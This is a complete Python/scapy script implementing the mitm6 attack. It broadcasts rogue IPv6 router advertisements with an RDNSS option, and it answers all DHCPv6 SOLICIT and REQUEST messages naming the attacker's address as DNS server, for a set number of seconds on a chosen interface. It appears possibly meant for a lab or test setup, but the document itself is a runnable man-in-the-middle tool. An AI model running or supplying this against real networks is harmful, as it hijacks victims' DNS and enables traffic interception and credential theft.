# The mitm6 pattern (scapy): router advertisements with an RDNSS option naming the attacker, and DHCPv6 ADVERTISE/REPLY
# answers to every SOLICIT/REQUEST naming the attacker as DNS server. Usage: mitm6.py IFACE SECONDS
import sys
from scapy.all import (sniff, sendp, Ether, IPv6, UDP, ICMPv6ND_RA, ICMPv6NDOptSrcLLAddr, ICMPv6NDOptRDNSS, ICMPv6NDOptPrefixInfo,
                       DHCP6_Solicit, DHCP6_Request, DHCP6_Advertise, DHCP6_Reply, DHCP6OptClientId, DHCP6OptServerId,
                       DHCP6OptDNSServers, DHCP6OptIA_NA, DHCP6OptIAAddress, DUID_LL, get_if_hwaddr, conf, AsyncSniffer)
import time

conf.verb = 0
iface, seconds = sys.argv[1], float(sys.argv[2])
mac = get_if_hwaddr(iface)
ll = 'fe80::ff:fe00:' + mac.split(':')[-1]
duid = DUID_LL(lladdr=mac)

def answer(p):
    if UDP not in p or p[UDP].dport != 547:
        return
    kind = DHCP6_Advertise if DHCP6_Solicit in p else DHCP6_Reply if DHCP6_Request in p else None
    if kind is None:
        return
    msg = p[DHCP6_Solicit] if DHCP6_Solicit in p else p[DHCP6_Request]
    reply = (Ether(src=mac, dst=p[Ether].src) / IPv6(src=ll, dst=p[IPv6].src) / UDP(sport=547, dport=546)
             / kind(trid=msg.trid) / DHCP6OptServerId(duid=duid) / p[DHCP6OptClientId]
             / DHCP6OptDNSServers(dnsservers=[ll]) / DHCP6OptIA_NA(iaid=1, ianaopts=[DHCP6OptIAAddress(addr='2001:db8::1:66')]))
    sendp(reply, iface=iface)

sniffer = AsyncSniffer(iface=iface, filter='udp and port 547', prn=answer)
sniffer.start()
print('ready', flush=True)
ra = (Ether(src=mac, dst='33:33:00:00:00:01') / IPv6(src=ll, dst='ff02::1') / ICMPv6ND_RA(routerlifetime=1800)
      / ICMPv6NDOptSrcLLAddr(lladdr=mac) / ICMPv6NDOptPrefixInfo(prefix='2001:db8:66::', prefixlen=64) / ICMPv6NDOptRDNSS(dns=[ll], lifetime=600))
end = time.time() + seconds
while time.time() < end:
    sendp(ra, iface=iface)
    time.sleep(1)
sniffer.stop()
